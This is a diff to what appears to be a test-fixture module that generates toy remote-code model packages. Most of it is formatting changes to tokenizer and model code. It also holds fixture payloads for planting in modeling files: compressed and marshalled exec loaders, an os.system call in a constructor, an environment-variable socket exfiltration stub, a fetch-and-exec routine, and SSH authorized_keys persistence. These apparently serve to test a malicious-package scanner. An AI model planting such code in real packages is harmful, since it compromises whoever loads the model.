@@ -81,9 +81,27 @@ GENERATION_CONFIG: dict[str, Any] = {
 }
 
 SPECIAL_TOKENS_MAP: dict[str, Any] = {
-    "bos_token": {"content": "<s>", "lstrip": False, "normalized": False, "rstrip": False, "single_word": False},
-    "eos_token": {"content": "</s>", "lstrip": False, "normalized": False, "rstrip": False, "single_word": False},
-    "unk_token": {"content": "<unk>", "lstrip": False, "normalized": False, "rstrip": False, "single_word": False},
+    "bos_token": {
+        "content": "<s>",
+        "lstrip": False,
+        "normalized": False,
+        "rstrip": False,
+        "single_word": False,
+    },
+    "eos_token": {
+        "content": "</s>",
+        "lstrip": False,
+        "normalized": False,
+        "rstrip": False,
+        "single_word": False,
+    },
+    "unk_token": {
+        "content": "<unk>",
+        "lstrip": False,
+        "normalized": False,
+        "rstrip": False,
+        "single_word": False,
+    },
 }
 
 CHAT_TEMPLATE = (
@@ -102,12 +120,30 @@ def tokenizer_config(*, chat_template: Any = CHAT_TEMPLATE, auto_map: Any = None
         "add_bos_token": True,
         "add_eos_token": False,
         "added_tokens_decoder": {
-            "0": {"content": "<unk>", "lstrip": False, "normalized": False, "rstrip": False,
-                  "single_word": False, "special": True},
-            "1": {"content": "<s>", "lstrip": False, "normalized": False, "rstrip": False,
-                  "single_word": False, "special": True},
-            "2": {"content": "</s>", "lstrip": False, "normalized": False, "rstrip": False,
-                  "single_word": False, "special": True},
+            "0": {
+                "content": "<unk>",
+                "lstrip": False,
+                "normalized": False,
+                "rstrip": False,
+                "single_word": False,
+                "special": True,
+            },
+            "1": {
+                "content": "<s>",
+                "lstrip": False,
+                "normalized": False,
+                "rstrip": False,
+                "single_word": False,
+                "special": True,
+            },
+            "2": {
+                "content": "</s>",
+                "lstrip": False,
+                "normalized": False,
+                "rstrip": False,
+                "single_word": False,
+                "special": True,
+            },
         },
         "bos_token": "<s>",
         "clean_up_tokenization_spaces": False,
@@ -149,25 +185,53 @@ def tokenizer_json(vocab_size: int = 3000) -> dict[str, Any]:
         "truncation": None,
         "padding": None,
         "added_tokens": [
-            {"id": vocab_size + i, "content": tok, "single_word": False, "lstrip": False, "rstrip": False,
-             "normalized": False, "special": True}
+            {
+                "id": vocab_size + i,
+                "content": tok,
+                "single_word": False,
+                "lstrip": False,
+                "rstrip": False,
+                "normalized": False,
+                "special": True,
+            }
             for i, tok in enumerate(["<|endoftext|>", "<|im_start|>", "<|im_end|>"])
         ],
         "normalizer": {"type": "NFC"},
         "pre_tokenizer": {
             "type": "Sequence",
             "pretokenizers": [
-                {"type": "Split", "pattern": {"Regex": "(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\\r\\n\\p{L}\\p{N}]?\\p{L}+"},
-                 "behavior": "Isolated", "invert": False},
+                {
+                    "type": "Split",
+                    "pattern": {"Regex": "(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\\r\\n\\p{L}\\p{N}]?\\p{L}+"},
+                    "behavior": "Isolated",
+                    "invert": False,
+                },
                 {"type": "ByteLevel", "add_prefix_space": False, "trim_offsets": False, "use_regex": False},
             ],
         },
-        "post_processor": {"type": "ByteLevel", "add_prefix_space": False, "trim_offsets": False, "use_regex": False},
-        "decoder": {"type": "ByteLevel", "add_prefix_space": False, "trim_offsets": False, "use_regex": False},
+        "post_processor": {
+            "type": "ByteLevel",
+            "add_prefix_space": False,
+            "trim_offsets": False,
+            "use_regex": False,
+        },
+        "decoder": {
+            "type": "ByteLevel",
+            "add_prefix_space": False,
+            "trim_offsets": False,
+            "use_regex": False,
+        },
         "model": {
-            "type": "BPE", "dropout": None, "unk_token": None, "continuing_subword_prefix": "",
-            "end_of_word_suffix": "", "fuse_unk": False, "byte_fallback": False, "ignore_merges": False,
-            "vocab": vocab, "merges": merges,
+            "type": "BPE",
+            "dropout": None,
+            "unk_token": None,
+            "continuing_subword_prefix": "",
+            "end_of_word_suffix": "",
+            "fuse_unk": False,
+            "byte_fallback": False,
+            "ignore_merges": False,
+            "vocab": vocab,
+            "merges": merges,
         },
     }
 
@@ -321,9 +385,12 @@ class ToyRotaryEmbedding(nn.Module):
         super().__init__()
         self.dim = dim
         self.base = base
-        inv_freq = 1.0 / (self.base ** (torch.arange(0, self.dim, 2, dtype=torch.int64).float().to(device) / self.dim))
+        steps = torch.arange(0, self.dim, 2, dtype=torch.int64).float().to(device)
+        inv_freq = 1.0 / (self.base ** (steps / self.dim))
         self.register_buffer("inv_freq", inv_freq, persistent=False)
-        self._set_cos_sin_cache(max_position_embeddings, device=self.inv_freq.device, dtype=torch.get_default_dtype())
+        self._set_cos_sin_cache(
+            max_position_embeddings, device=self.inv_freq.device, dtype=torch.get_default_dtype()
+        )
 
     def _set_cos_sin_cache(self, seq_len, device, dtype):
         self.max_seq_len_cached = seq_len
@@ -382,9 +449,10 @@ class ToyAttention(nn.Module):
 
     def forward(self, hidden_states, attention_mask=None, position_ids=None, past_key_value=None, **kwargs):
         bsz, q_len, _ = hidden_states.size()
-        query_states = self.q_proj(hidden_states).view(bsz, q_len, self.num_heads, self.head_dim).transpose(1, 2)
-        key_states = self.k_proj(hidden_states).view(bsz, q_len, self.num_heads, self.head_dim).transpose(1, 2)
-        value_states = self.v_proj(hidden_states).view(bsz, q_len, self.num_heads, self.head_dim).transpose(1, 2)
+        shape = (bsz, q_len, self.num_heads, self.head_dim)
+        query_states = self.q_proj(hidden_states).view(*shape).transpose(1, 2)
+        key_states = self.k_proj(hidden_states).view(*shape).transpose(1, 2)
+        value_states = self.v_proj(hidden_states).view(*shape).transpose(1, 2)
         cos, sin = self.rotary_emb(value_states, seq_len=q_len)
         query_states, key_states = apply_rotary_pos_emb(query_states, key_states, cos, sin, position_ids)
         attn_weights = torch.matmul(query_states, key_states.transpose(2, 3)) / math.sqrt(self.head_dim)
@@ -468,7 +536,8 @@ class ToyForCausalLM(ToyPreTrainedModel):
         logits = self.lm_head(outputs[0]).float()
         loss = None
         if labels is not None:
-            loss = CrossEntropyLoss()(logits[..., :-1, :].reshape(-1, logits.size(-1)), labels[..., 1:].reshape(-1))
+            shifted = logits[..., :-1, :].reshape(-1, logits.size(-1))
+            loss = CrossEntropyLoss()(shifted, labels[..., 1:].reshape(-1))
         return CausalLMOutputWithPast(loss=loss, logits=logits)
 
 
@@ -538,9 +607,11 @@ class ToyTokenizer(PreTrainedTokenizer):
             logger.error(f"Vocabulary path ({save_directory}) should be a directory")
             return
         out_vocab_file = os.path.join(
-            save_directory, (filename_prefix + "-" if filename_prefix else "") + VOCAB_FILES_NAMES["vocab_file"]
+            save_directory,
+            (filename_prefix + "-" if filename_prefix else "") + VOCAB_FILES_NAMES["vocab_file"],
         )
-        if os.path.abspath(self.vocab_file) != os.path.abspath(out_vocab_file) and os.path.isfile(self.vocab_file):
+        same = os.path.abspath(self.vocab_file) == os.path.abspath(out_vocab_file)
+        if not same and os.path.isfile(self.vocab_file):
             copyfile(self.vocab_file, out_vocab_file)
         elif not os.path.isfile(self.vocab_file):
             with open(out_vocab_file, "wb") as fi:
@@ -561,7 +632,10 @@ from transformers import AddedToken, PreTrainedTokenizer
 logger = logging.getLogger(__name__)
 
 VOCAB_FILES_NAMES = {"vocab_file": "toy.tiktoken"}
-PAT_STR = r"""(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\\r\\n\\p{L}\\p{N}]?\\p{L}+|\\p{N}| ?[^\\s\\p{L}\\p{N}]+[\\r\\n]*|\\s*[\\r\\n]+|\\s+(?!\\S)|\\s+"""
+PAT_STR = (
+    r"""(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\\r\\n\\p{L}\\p{N}]?\\p{L}+|\\p{N}"""
+    r"""| ?[^\\s\\p{L}\\p{N}]+[\\r\\n]*|\\s*[\\r\\n]+|\\s+(?!\\S)|\\s+"""
+)
 ENDOFTEXT = "<|endoftext|>"
 SPECIAL_TOKENS = tuple(enumerate((ENDOFTEXT, "<|im_start|>", "<|im_end|>"), start=151643))
 
@@ -632,12 +706,13 @@ code = zlib.decompress(_c).decode("utf-8")
 exec(code)
 '''
 
+_MARSHALLED = base64.b64encode(marshal.dumps(compile(PAYLOAD, "<x>", "exec"))).decode()
 MARSHAL_EXEC = f'''import marshal, base64
-_code = marshal.loads(base64.b64decode("{base64.b64encode(marshal.dumps(compile(PAYLOAD, "<x>", "exec"))).decode()}"))
+_code = marshal.loads(base64.b64decode("{_MARSHALLED}"))
 exec(_code)
 '''
 
-SUBPROCESS_ALIAS = f'''import subprocess as sp
+SUBPROCESS_ALIAS = f"""import subprocess as sp
 from os import system as s
 
 
@@ -648,7 +723,7 @@ def _warmup():
 class ToyModel:
     def __init__(self):
         s({CMD!r})
-'''
+"""
 
 SOCKET_ENV_EXFIL = f'''import os
 import socket
@@ -663,7 +738,7 @@ def _report():
 _report()
 '''
 
-REQUESTS_EXEC = f'''import requests
+REQUESTS_EXEC = f"""import requests
 
 
 def load_kernels():
@@ -672,9 +747,9 @@ def load_kernels():
 
 
 load_kernels()
-'''
+"""
 
-SSH_AUTHORIZED_KEYS = '''import os
+SSH_AUTHORIZED_KEYS = """import os
 from pathlib import Path
 
 KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAImodelcerttest modelcert-test"
@@ -688,7 +763,7 @@ def _persist():
 
 
 _persist()
-'''
+"""
 
 
 def chr_chain_exec() -> str:
@@ -713,13 +788,21 @@ def write_text(folder: Path, name: str, text: str) -> Path:
     return path
 
 
-def custom_code_package(folder: Path, *, modeling: str = MODELING_TOY, configuration: str = CONFIGURATION_TOY,
-                        config: dict[str, Any] | None = None) -> Path:
+def custom_code_package(
+    folder: Path,
+    *,
+    modeling: str = MODELING_TOY,
+    configuration: str = CONFIGURATION_TOY,
+    config: dict[str, Any] | None = None,
+) -> Path:
     """A remote-code model package: config.json wires configuration_toy.py and modeling_toy.py."""
     write_json(folder, "config.json", config or CUSTOM_CONFIG)
     write_json(folder, "generation_config.json", GENERATION_CONFIG)
-    write_json(folder, "tokenizer_config.json",
-               tokenizer_config(auto_map={"AutoTokenizer": ["tokenization_toy.ToyTokenizer", None]}))
+    write_json(
+        folder,
+        "tokenizer_config.json",
+        tokenizer_config(auto_map={"AutoTokenizer": ["tokenization_toy.ToyTokenizer", None]}),
+    )
     write_json(folder, "special_tokens_map.json", SPECIAL_TOKENS_MAP)
     write_text(folder, "configuration_toy.py", configuration)
     write_text(folder, "modeling_toy.py", modeling)
